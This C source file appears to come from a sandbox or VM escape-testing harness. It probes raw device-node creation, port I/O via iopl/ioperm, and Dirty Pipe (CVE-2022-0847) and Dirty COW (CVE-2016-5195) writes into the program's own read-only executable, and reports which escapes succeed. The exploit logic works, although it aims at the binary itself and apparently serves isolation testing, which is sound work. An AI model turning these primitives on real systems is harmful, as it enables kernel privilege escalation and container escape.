// By devices, ports and what an image's pages are.
#include "escape.h"
#include <sys/io.h>
#include <sys/sysmacros.h>

static const char *device_nodes(void) {
    const struct { const char *name; mode_t kind; unsigned major, minor; } nodes[] = {
        {"mem", S_IFCHR, 1, 1}, {"port", S_IFCHR, 1, 4}, {"kmsg", S_IFCHR, 1, 11}, {"console", S_IFCHR, 5, 1},
        {"ttyS0", S_IFCHR, 4, 64}, {"fuse", S_IFCHR, 10, 229}, {"hwrng", S_IFCHR, 10, 183}, {"vsock", S_IFCHR, 10, 121},
        {"userfaultfd", S_IFCHR, 10, 126}, {"msr", S_IFCHR, 202, 0}, {"loop", S_IFBLK, 7, 0}, {"vda", S_IFBLK, 254, 0},
        {"pmem0", S_IFBLK, 259, 0},
    };
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        unlink("/tmp/node");
        if (mknod("/tmp/node", nodes[i].kind | 0666, makedev(nodes[i].major, nodes[i].minor)) < 0) continue;
        if (open("/tmp/node", O_RDONLY | O_NONBLOCK) >= 0) return reached("the device %s", nodes[i].name);
    }
    return NULL;
}
// Of misc devices the numbers are the guest's own.
static const char *process_templates(void) {
    for (unsigned minor = 0; minor < 256; minor++) {
        unlink("/tmp/node");
        if (mknod("/tmp/node", S_IFCHR | 0666, makedev(10, minor)) < 0) return NULL;
        if (open("/tmp/node", O_RDWR | O_NONBLOCK) >= 0) return reached("misc device %u", minor);
    }
    int template = open("/dev/process-template", O_RDWR);
    return template >= 0 ? reached("process templates") : NULL;
}
static const char *ports(void) {
    if (iopl(3) == 0) return reached("all input and output ports");
    return ioperm(0x60, 8, 1) == 0 ? reached("the ports of the reset") : NULL;
}
static const char program[] = "/proc/self/exe";
static uint64_t sum_of_program(void) {
    uint64_t sum = 0;
    unsigned char bytes[4096];
    int file = open(program, O_RDONLY);
    for (ssize_t count; (count = read(file, bytes, sizeof bytes)) > 0;)
        for (ssize_t i = 0; i < count; i++) sum = sum * 31 + bytes[i];
    close(file);
    return sum;
}
// A page of a file that is only read, spliced into a pipe, and written to there.
static const char *dirty_pipe(void) {
    uint64_t before = sum_of_program();
    int ends[2], file = open(program, O_RDONLY);
    if (pipe(ends) < 0) return NULL;
    static char page[4096];
    for (int i = 0; i < 16; i++) if (write(ends[1], page, sizeof page) < 0) return NULL;
    for (int i = 0; i < 16; i++) if (read(ends[0], page, sizeof page) < 0) return NULL;
    off64_t offset = 4;
    if (splice(file, &offset, ends[1], NULL, 1, 0) < 1 || write(ends[1], "owned", 5) < 0) return NULL;
    return sum_of_program() != before ? reached("a page of the image, which siblings run") : NULL;
}
static const char *write_to_mapping(void) {
    uint64_t before = sum_of_program();
    int file = open(program, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    for (int i = 0; i < 2000 && memory >= 0 && map != MAP_FAILED; i++) {
        madvise(map, 4096, MADV_DONTNEED);
        if (pwrite(memory, "owned", 5, (off_t)(uintptr_t)(map + 8)) < 0) break;
    }
    if (memory >= 0 && shared != MAP_FAILED && pwrite(memory, "owned", 5, (off_t)(uintptr_t)(shared + 8)) == 5 && sum_of_program() != before)
        return reached("a shared page of the image");
    return sum_of_program() != before ? reached("a page of the image, which siblings run") : NULL;
}
const struct escape device_escapes[] = {
    {"device-nodes", "CVE-2016-8867 class: nodes of the machine's devices", device_nodes},
    {"process-templates", "the guest's own devices", process_templates},
    {"ports", "iopl and ioperm", ports},
    {"dirty-pipe", "CVE-2022-0847", dirty_pipe},
    {"dirty-cow", "CVE-2016-5195", write_to_mapping},
    {0},
};
